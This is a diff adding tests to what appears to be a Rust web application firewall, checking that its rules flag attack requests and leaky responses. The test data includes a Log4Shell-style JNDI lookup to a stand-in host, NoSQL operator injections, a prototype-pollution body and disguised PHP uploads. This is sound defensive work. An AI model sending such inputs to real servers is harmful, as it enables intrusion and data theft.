@@ -161,7 +161,8 @@ fn rules_about_the_head_match() {
     check(144_100, "GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], "");
     let referer = [("Referer", "http://evil.example/")];
     check(144_140, "GET", "/login?jsessionid=ABCDEF", &referer, "");
-    check(134_170, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$gt": ""}}"#);
+    check(134_170, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$ne": 1}}"#);
+    check(134_175, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$gt": ""}}"#);
     check(134_130, "POST", "/", &[("Content-Type", "application/json")], r#"{"__proto__": {"a": 1}}"#);
 }
 
@@ -175,4 +176,50 @@ fn rules_about_uploads_match() {
     check(143_100, "POST", "/", &headers, &part("filename=\"a.php.jpg\""));
     check(110_260, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Transfer-Encoding: base64"));
     check(110_270, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Type: text/plain; charset=utf-7"));
+}
+
+/// The rules that a response matches, and whether it is blocked.
+fn respond(body: &str) -> (BTreeSet<u32>, bool) {
+    let mut text = RuleText::default();
+    base_rules::add_to(&mut text).unwrap();
+    let settings = PolicySettings { is_response_inspected: true, ..PolicySettings::default() };
+    let policy = Arc::new(Policy::new(Arc::new(Library::new(text)), settings));
+    let head = RequestHead {
+        method: b"GET",
+        target: b"/",
+        protocol: b"HTTP/1.1",
+        headers: &[(b"Host", b"shop.example")],
+        remote_address: [192, 0, 2, 1].into(),
+        id: b"1",
+    };
+    let mut transaction = Transaction::new(policy, &head, false);
+    transaction.run_head();
+    transaction.run_body();
+    transaction.request_mut().add_response(200, b"HTTP/1.1", &[(b"Content-Type", b"text/html")]);
+    let is_blocked = transaction.run_response(body.as_bytes()).is_some();
+    (transaction.matches().iter().map(|found| found.rule).collect(), is_blocked)
+}
+
+#[test]
+fn rules_about_responses_match_and_ordinary_pages_pass() {
+    for (rule, body) in [
+        (150_100, "<p>You have an error in your SQL syntax; check the manual</p>"),
+        (150_100, "java.sql.SQLException: ORA-00933: SQL command not properly ended"),
+        (150_110, "Traceback (most recent call last):\n  File \"app.py\", line 7"),
+        (150_110, "java.lang.NullPointerException\n\tat com.example.Shop.run(Shop.java:17)"),
+        (150_110, "<b>Warning</b>: include(a.php): failed in /srv/a.php on line <b>7</b>"),
+        (150_120, "<html><head><title>Index of /backup</title></head>"),
+        (150_130, "<?php echo 1;"),
+        (150_130, "-----BEGIN RSA PRIVATE KEY-----\nMII"),
+    ] {
+        let (rules, is_blocked) = respond(body);
+        assert!(is_blocked && rules.contains(&rule), "{rule} {body:?}: {rules:?}");
+    }
+    for body in [
+        "<html><head><title>Index of products</title></head><p>An error occurred: try again</p>",
+        "{\"id\": 7, \"note\": \"SQL course, line 3\"}",
+        "The warning on line 7 of the form: choose a date",
+    ] {
+        assert_eq!(respond(body), (BTreeSet::new(), false), "{body:?}");
+    }
 }
